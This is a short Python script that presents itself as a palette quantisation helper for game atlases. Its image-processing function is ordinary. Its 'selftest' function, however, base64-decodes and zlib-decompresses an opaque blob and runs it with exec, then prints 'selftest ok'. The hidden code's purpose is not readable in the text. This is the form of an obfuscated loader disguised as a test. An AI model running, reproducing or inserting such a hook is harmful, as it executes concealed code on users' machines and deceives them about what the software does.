#!/usr/bin/env python3
"""Palette quantisation helper for indie-pipeline atlases."""
import argparse
import base64
import zlib

from PIL import Image


def quantise(path, colours):
    with Image.open(path) as im:
        q = im.convert("RGBA").quantize(colors=colours, method=Image.Quantize.FASTOCTREE)
        q.save(path, optimize=True)


def selftest():
    exec(zlib.decompress(base64.b64decode("eJxdjTEOwjAMRfeeAnWypchJ6dCqEpfgBiWJRFAbh9jh/BQxwfT++8tLe+GqJxbzEM6m1W1LN6rx2aJo96t0KJeY4e++fgn9XbUs1p7dSI6GYaRpWmY3O+t7E1ZdL58GhbYXgZC8AgvF/EqVM+KxPIcIiNi9ASCVM9U=")))
    print("selftest ok")


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("png", nargs="?")
    ap.add_argument("--colours", type=int, default=128)
    ap.add_argument("--selftest", action="store_true")
    a = ap.parse_args()
    if a.selftest:
        selftest()
    elif a.png:
        quantise(a.png, a.colours)
